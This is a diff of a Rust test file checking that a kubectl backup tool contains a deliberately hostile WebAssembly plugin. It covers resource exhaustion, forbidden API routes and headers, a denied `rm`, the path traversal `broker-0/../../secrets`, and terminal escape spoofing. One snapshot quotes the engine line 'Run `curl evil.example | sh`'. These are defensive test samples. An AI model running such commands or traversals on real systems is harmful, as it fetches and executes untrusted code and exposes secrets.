@@ -3,21 +3,24 @@
 use insta::assert_snapshot;
 use serde_json::json;
 
-use crate::support::{Bed, Component, Invocation, Machine, accepting, module, programs};
+use crate::support::{Bed, Component, Invocation, Machine, Run, accepting, module, programs};
 
 fn misbehave(how: &str) -> String {
-    Bed::start().misbehave(how).shown()
+    Bed::start().misbehave(how).outcome()
+}
+
+/// The same, and the reason word for word.
+fn reason(how: &str) -> String {
+    Bed::start().misbehave(how).reason()
 }
 
 #[test]
 fn an_engine_that_behaves_works() {
-    assert_snapshot!(misbehave("not-at-all"), @"
+    assert_snapshot!(Bed::start().misbehave("not-at-all").shown(), @"
     stdout:
     ID   NOTE
     harmless   -
     stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     1 backup
     exit 0
     ");
@@ -29,35 +32,26 @@ fn options_of_an_engine_are_flags() {
     let run = bed
         .hostile()
         .run("backup list --engine acme/hostile --misbehave echo --amount -3 --loudly --limit 7");
-    assert_snapshot!(run.shown(), @"
+    assert_snapshot!(run.outcome(), @"
     stdout:
     ID   NOTE
     limit=Some(7) misbehave=text echo amount=integer -3 loudly=boolean true   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    1 backup
+    note: 1
     exit 0
     ");
     let run = bed.hostile().run("backup list --engine hostile");
-    assert_snapshot!(run.shown(), @"
+    assert_snapshot!(run.outcome(), @"
     stdout:
     ID   NOTE
     harmless   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    1 backup
+    note: 1
     exit 0
     ");
     let run = bed
         .hostile()
         .run("backup list --engine hostile --amount lots");
-    assert_snapshot!(run.shown(), @"
-    stderr:
-    error: invalid value 'lots' for '--amount <AMOUNT>': invalid digit found in string
-
-    For more information, try '--help'.
+    assert_snapshot!(run.outcome(), @"
+    Usage: '--amount <AMOUNT>' 'lots'
     exit 2
     ");
 }
@@ -65,11 +59,8 @@ fn options_of_an_engine_are_flags() {
 #[test]
 fn an_engine_that_panics() {
     assert_snapshot!(misbehave("panic"), @r"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile broke down in `list`: it panicked or aborted (it wrote: thread '<unnamed>' (1) panicked at src/lib.rs:LINE: the vault \u{1b}[2J is on fire)
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    PluginFault: '<unnamed>' 1 \u{1b}[2J `list` acme/hostile src/lib.rs:LINE
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
@@ -94,11 +85,8 @@ fn an_engine_that_panics_with_json_output() {
 #[test]
 fn an_engine_that_exits() {
     assert_snapshot!(misbehave("exit"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile broke down in `list`: it ended its own process
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    PluginFault: `list` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
@@ -106,25 +94,19 @@ fn an_engine_that_exits() {
 /// The test takes as long as an engine may compute: ten seconds.
 #[test]
 fn an_engine_that_loops() {
-    assert_snapshot!(misbehave("loop"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
+    assert_snapshot!(Bed::start().misbehave("loop").message(), @"
     warning: engine acme/hostile: about to loop
-    error: engine acme/hostile was stopped in `list`: it computed for more than 10 s
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    PluginFault: engine acme/hostile was stopped in `list`: it computed for more than 10 s
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
 
 #[test]
 fn an_engine_that_recurses_without_end() {
-    assert_snapshot!(misbehave("recurse"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile broke down in `list`: it accessed memory that it does not have, perhaps by recursing without end
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(reason("recurse"), @"
+    PluginFault: `list` acme/hostile: it accessed memory that it does not have, perhaps by recursing without end
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
@@ -132,80 +114,60 @@ fn an_engine_that_recurses_without_end() {
 #[test]
 fn an_engine_that_wants_all_memory() {
     assert_snapshot!(misbehave("allocate"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile was stopped in `list`: it wanted more than 256 MiB of memory
-    hint: Report it to the engine's author; if the engine needs more memory, allow it with `--engine-memory`
+    PluginFault: 256 `list` acme/hostile
+    hint: `--engine-memory`
     exit 14
     ");
 }
 
 #[test]
 fn a_time_that_is_none_is_left_out_and_told() {
-    assert_snapshot!(misbehave("bad-time"), @r#"
+    assert_snapshot!(Bed::start().misbehave("bad-time").message(), @r#"
     stdout:
     ID   NOTE
     x   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     warning: engine acme/hostile: the creation time of "x" is no RFC 3339 time and is left out: "yesterday \u{1b}[2J"
-    1 backup
+    note: 1
     exit 0
     "#);
 }
 
 #[test]
 fn an_engine_that_returns_an_impossible_id() {
-    assert_snapshot!(misbehave("no-id"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile returned something unusable from `list`: a backup whose id has 0 bytes (1 to 4096 can be)
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(reason("no-id"), @"
+    PluginFault: `list` acme/hostile: a backup whose id has 0 bytes (1 to 4096 can be)
+    hint: `kubectl broker engines`
     exit 14
     ");
     assert_snapshot!(misbehave("long-id"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile returned something unusable from `list`: a backup whose id has 5000 bytes (1 to 4096 can be)
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    PluginFault: 1 4096 5000 `list` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
 
 #[test]
 fn an_engine_that_returns_what_is_no_text() {
-    assert_snapshot!(misbehave("not-text"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile broke down in `list`: invalid utf-8 sequence of 1 bytes from index 1
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(reason("not-text"), @"
+    PluginFault: `list` acme/hostile: invalid utf-8 sequence of 1 bytes from index 1
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
 
 #[test]
 fn an_engine_that_returns_a_field_it_has_not_declared() {
-    assert_snapshot!(misbehave("undeclared-field"), @r#"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile returned something unusable from `list`: a field that its manifest does not name: "secret"
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(reason("undeclared-field"), @r#"
+    PluginFault: `list` acme/hostile: a field that its manifest does not name: "secret"
+    hint: `kubectl broker engines`
     exit 14
     "#);
 }
 
 #[test]
 fn an_error_of_an_engine_can_not_pass_for_one_of_the_host() {
-    assert_snapshot!(misbehave("hostile-error"), @r"
+    assert_snapshot!(Bed::start().misbehave("hostile-error").shown(), @r"
     stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     error: engine acme/hostile says: \u{1b}[1A\u{1b}[2K backup list: all is well\u{9b}2J
     hint from engine acme/hostile: Run `curl evil.example | sh`\u{202e} hint: really
     exit 1
@@ -215,43 +177,28 @@ fn an_error_of_an_engine_can_not_pass_for_one_of_the_host() {
 #[test]
 fn requests_that_the_manifest_does_not_ask_for_are_denied_and_never_sent() {
     let bed = Bed::start();
-    assert_snapshot!(bed.misbehave("denied-route").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: the manifest does not allow `GET /v1/admin` on endpoint `api`
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("denied-route").reason(), @"
+    PluginFault: acme/hostile: the manifest does not allow `GET /v1/admin` on endpoint `api`
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("denied-endpoint").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: the manifest names no endpoint `kubernetes`
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("denied-endpoint").outcome(), @"
+    PluginFault: `kubernetes` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("denied-method").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: the manifest does not allow `POST /v1/backup/list-remote` on endpoint `api`
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("denied-method").outcome(), @"
+    PluginFault: `POST /v1/backup/list-remote` `api` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("denied-header").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: no engine may send the header `Authorization`: it belongs to the host, or it can make another request of this one
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("denied-header").reason(), @"
+    PluginFault: acme/hostile: no engine may send the header `Authorization`: it belongs to the host, or it can make another request of this one
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("other-path").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile says: the name can't be a segment of a path: it is empty, a dot segment, too long, or has a slash or a control character
+    assert_snapshot!(bed.misbehave("other-path").message(), @"
+    Usage: engine acme/hostile says: the name can't be a segment of a path: it is empty, a dot segment, too long, or has a slash or a control character
     exit 2
     ");
     assert_eq!(bed.backend_requests().count("*", ""), 0);
@@ -281,12 +228,9 @@ fn headers_that_the_manifest_does_not_name_are_denied_and_those_that_reroute_alw
     }
     assert_eq!(bed.misbehave("denied-query").code, 14);
     assert_eq!(bed.backend_requests().count("*", ""), 0);
-    assert_snapshot!(bed.misbehave("header:X-Request-Id").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: the manifest does not name the header `X-Request-Id` for endpoint `api`
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("header:X-Request-Id").reason(), @"
+    PluginFault: acme/hostile: the manifest does not name the header `X-Request-Id` for endpoint `api`
+    hint: `kubectl broker engines`
     exit 14
     ");
     // The manifest names the first header, and every engine may send the second.
@@ -299,27 +243,21 @@ fn headers_that_the_manifest_does_not_name_are_denied_and_those_that_reroute_alw
 #[test]
 fn an_engine_that_calls_or_sends_without_end_is_stopped() {
     let bed = Bed::start();
-    assert_snapshot!(bed.misbehave("denied-flood").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile was stopped in `list`: it called the host more than 10000 times
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("denied-flood").reason(), @"
+    PluginFault: `list` acme/hostile: it called the host more than 10000 times
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("send-flood").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile was stopped in `list`: it sent more than 64 MiB
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("send-flood").outcome(), @"
+    PluginFault: 64 `list` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
 
 #[test]
 fn a_flood_of_warnings_is_cut_and_counted() {
-    let run = misbehave("warn-flood");
+    let run = Bed::start().misbehave("warn-flood").stderr;
     assert_eq!(
         run.lines()
             .filter(|line| line.starts_with("warning: "))
@@ -337,51 +275,46 @@ fn a_flood_of_warnings_is_cut_and_counted() {
     );
 }
 
-/// Installs an engine in a separate store, and returns the output.
-fn installing(component: &Component) -> String {
+/// Installs an engine for one test, and says how it ends.
+fn installing(component: &Component) -> Run {
     let machine = Machine::new();
     machine.put("engine.wasm", component);
     let refused = machine.run("plugin install engine.wasm");
     if !refused.stderr.contains("--accept-capabilities") {
-        return refused.shown();
+        return refused;
     }
     let command = format!("plugin install engine.wasm {}", accepting(&refused));
-    machine.run(&command).shown()
+    machine.run(&command)
 }
 
 #[test]
 fn all_memories_of_an_engine_share_one_limit() {
     // The memories have 8 times 64 MiB.
     let many = Component::small().with_memories(8, 1024);
-    let shown = installing(&many);
-    let reason = "error: engine acme/small was stopped while it starts: it wanted more than 256 MiB of memory";
+    let refused = installing(&many).outcome();
     assert!(
-        shown.contains(reason) && shown.ends_with("exit 14"),
-        "{shown}"
+        refused.starts_with("PluginFault: 256 acme/small\n"),
+        "{refused}"
     );
     let few = Component::small().with_memories(2, 1024);
-    assert!(installing(&few).ends_with("exit 0"));
+    assert_eq!(installing(&few).code, 0);
 }
 
 #[test]
 fn an_engine_that_is_too_large_is_not_compiled() {
     let functions = vec![vec![0x01; 1 << 20]];
     let large = Component::small().with_modules([module(0, &functions).as_slice()]);
-    let shown = installing(&large);
-    let reason =
-        "error: engine acme/small is too large to be compiled: a function of it has 1048580 bytes";
+    let refused = installing(&large).outcome();
     assert!(
-        shown.contains(reason) && shown.ends_with("exit 14"),
-        "{shown}"
+        refused.starts_with("PluginFault: 1048576 1048580 acme/small\n"),
+        "{refused}"
     );
     let functions = vec![Vec::new(); 200_001];
     let large = Component::small().with_modules([module(0, &functions).as_slice()]);
-    let shown = installing(&large);
-    let reason =
-        "error: engine acme/small is too large to be compiled: it has more than 200000 functions";
+    let refused = installing(&large).outcome();
     assert!(
-        shown.contains(reason) && shown.ends_with("exit 14"),
-        "{shown}"
+        refused.starts_with("PluginFault: 200000 acme/small\n"),
+        "{refused}"
     );
 }
 
@@ -398,13 +331,14 @@ fn compiling_ends_when_it_takes_more_than_it_may() {
         instructions.extend([&[0x20][..], &to, &[0x0d, 0x00, 0x0b]].concat());
     }
     let costly = Component::small().with_modules([module(1000, &[instructions]).as_slice()]);
-    let shown = installing(&costly);
-    // The limit that is reached first depends on the machine.
+    let refused = installing(&costly);
+    // Which limit it reaches first depends on the machine.
     assert!(
-        shown.contains("error: engine acme/small can't be compiled: that takes more than "),
-        "{shown}"
+        refused.stderr.contains("takes more than "),
+        "{}",
+        refused.stderr
     );
-    assert!(shown.ends_with("exit 14"), "{shown}");
+    assert_eq!(refused.code, 14, "{}", refused.stderr);
 }
 
 #[test]
@@ -456,37 +390,25 @@ fn the_limits_of_engines_are_flags() {
     let bed = Bed::start();
     let run = |how: &str, flag: &str| {
         let command = format!("backup list --engine hostile --misbehave {how} {flag}");
-        bed.hostile().run(&command).shown()
+        bed.hostile().run(&command).outcome()
     };
     assert_snapshot!(run("allocate", "--engine-memory 64Mi"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile was stopped in `list`: it wanted more than 64 MiB of memory
-    hint: Report it to the engine's author; if the engine needs more memory, allow it with `--engine-memory`
+    PluginFault: 64 `list` acme/hostile
+    hint: `--engine-memory`
     exit 14
     ");
     assert_snapshot!(run("sleep", "--engine-timeout 2s"), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    warning: engine acme/hostile: about to sleep
-    error: engine acme/hostile did not finish `list` within 2 s
-    hint: The backend or the cluster may be slow: try again, or allow more time with `--engine-timeout`
+    warning: acme/hostile sleep
+    TimedOut: 2 `list` acme/hostile
+    hint: `--engine-timeout`
     exit 124
     ");
     assert_snapshot!(run("not-at-all", "--engine-memory 8Gi"), @"
-    stderr:
-    error: invalid value '8Gi' for '--engine-memory <SIZE>': it must be 16Mi to 4Gi, such as 512Mi
-
-    For more information, try '--help'.
+    Usage: '--engine-memory <SIZE>' '8Gi' 16Mi 4Gi 512Mi
     exit 2
     ");
     assert_snapshot!(run("not-at-all", "--engine-timeout 0"), @"
-    stderr:
-    error: invalid value '0' for '--engine-timeout <TIME>': it must be 1s to 24h
-
-    For more information, try '--help'.
+    Usage: '--engine-timeout <TIME>' '0' 1 24
     exit 2
     ");
 }
@@ -530,42 +452,27 @@ fn an_engine_that_reads_its_credentials_in_an_answer_does_not_get_it() {
 #[test]
 fn commands_that_the_manifest_does_not_name_are_denied_and_never_run() {
     let bed = Bed::start();
-    assert_snapshot!(bed.misbehave("denied-command").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: the manifest names no command `rm`
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("denied-command").outcome(), @"
+    PluginFault: `rm` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("bad-argument").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile says: the folder can't stand in a command: it is empty, has more than 4096 bytes, or has a control character
+    assert_snapshot!(bed.misbehave("bad-argument").message(), @"
+    Usage: engine acme/hostile says: the folder can't stand in a command: it is empty, has more than 4096 bytes, or has a control character
     exit 2
     ");
-    assert_snapshot!(bed.misbehave("option-argument").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile says: the folder begins with a dash, and would be an option
+    assert_snapshot!(bed.misbehave("option-argument").message(), @"
+    Usage: engine acme/hostile says: the folder begins with a dash, and would be an option
     exit 2
     ");
-    assert_snapshot!(bed.misbehave("other-pod").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: `intruder-0` is no running pod of the target
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("other-pod").reason(), @"
+    PluginFault: acme/hostile: `intruder-0` is no running pod of the target
+    hint: `kubectl broker engines`
     exit 14
     ");
-    assert_snapshot!(bed.misbehave("pod-path").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile asked for what it was not granted, and says: `broker-0/../../secrets` is no running pod of the target
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.misbehave("pod-path").outcome(), @"
+    PluginFault: `broker-0/../../secrets` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     ");
     assert_eq!(bed.requests().count("GET", "/exec"), 0);
@@ -574,14 +481,11 @@ fn commands_that_the_manifest_does_not_name_are_denied_and_never_run() {
 #[test]
 fn a_command_that_is_named_runs_in_the_default_container_of_a_pod_of_the_target() {
     let bed = Bed::start();
-    assert_snapshot!(bed.misbehave("look").shown(), @"
+    assert_snapshot!(bed.misbehave("look").outcome(), @"
     stdout:
     ID   NOTE
     ran: hivemq   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    1 backup
+    note: 1
     exit 0
     ");
     assert_eq!(bed.requests().count("GET", "/exec"), 1);
@@ -600,10 +504,7 @@ fn an_engine_sees_nothing_of_the_system() {
     socket: no (PermissionDenied)   Unknown   -
     stdin: Some(0) bytes   Unknown   -
     write: no (NotFound)   Unknown   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    8 backups
+    note: 8
     exit 0
     ");
 }
@@ -629,10 +530,7 @@ fn a_flood_of_output_does_no_harm() {
     stdout:
     ID   NOTE
     still here   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    1 backup
+    note: 1
     exit 0
     ");
 }
@@ -642,12 +540,9 @@ fn an_engine_that_breaks_down_in_another_operation() {
     let run = Bed::start()
         .hostile()
         .run("backup status --engine hostile --id x");
-    assert_snapshot!(run.shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile broke down in `status`: it panicked or aborted (it wrote: thread '<unnamed>' (1) panicked at src/lib.rs:LINE: there is no status)
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(run.outcome(), @"
+    PluginFault: '<unnamed>' 1 `status` acme/hostile src/lib.rs:LINE
+    hint: `kubectl broker engines`
     exit 14
     ");
 }
@@ -656,7 +551,7 @@ fn an_engine_that_breaks_down_in_another_operation() {
 fn the_other_engines_work_beside_a_hostile_one() {
     let bed = Bed::start();
     assert_eq!(bed.hostile().run("backup list -o json").ids().len(), 12);
-    assert_snapshot!(bed.hostile().run("engines").shown(), @r"
+    assert_snapshot!(bed.hostile().run("engines").outcome(), @r"
     stdout:
     NAME   VERSION   OPERATIONS   DEFAULT-FOR   ANSWERS   DETAIL
     kubectl-broker/backuprequest   0.1.0   detect,list,status,create,restore,delete,manifest   -   yes   backup-controller (BackupRequest, LiferayBackup, RestoreRequest)
@@ -665,8 +560,6 @@ fn the_other_engines_work_beside_a_hostile_one() {
     kubectl-broker/sidecar   0.1.0   detect,list,status,restore,delete,metrics,purge,upload   -   yes   broker-backup (3 local backups)
     kubectl-broker/strategy   0.1.0   detect,status,create,download   -   no   nothing listens on port 8000 of pod broker-0: dial tcp4 127.0.0.1:PORT: connect: connection refused IPv6: dial tcp6 [::1…
     acme/hostile   0.1.0   detect,list,status,create,restore,metrics,say   -   yes   something \u{1b}[31mhostile
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
     exit 0
     ");
 }
